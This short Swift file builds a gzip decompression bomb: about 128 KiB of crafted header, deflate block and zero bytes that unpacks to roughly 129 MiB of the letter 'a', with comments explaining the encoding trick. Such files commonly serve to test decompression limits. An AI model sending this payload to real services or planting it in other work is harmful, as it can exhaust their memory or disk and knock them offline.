/// A gzip bomb: a little over 128 KiB that become 129 MiB of the letter a.
enum Bomb {
  /// RFC 1952 §2.3.1: deflate, no name, no time.
  private static let head: [UInt8] = [0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0, 0, 0xFF]

  /// A block of deflate (RFC 1951 §3.2.7) up to its first letter. Its codes are chosen so that one bit says "repeat
  /// 258 bytes" and one more "the last one", both zero: from here on each zero byte is 1032 letters.
  private static let block: [UInt8] = [
    0xEC, 0xC0, 0x81, 0x00, 0x00, 0x00, 0x00, 0x80, 0x20, 0xD6, 0xFD, 0x25, 0x16, 0xA9, 0x00,
  ]

  /// The block is not ended, for whoever gets there has unpacked all of it.
  static let bytes = head + block + [UInt8](repeating: 0, count: 131_072)
}
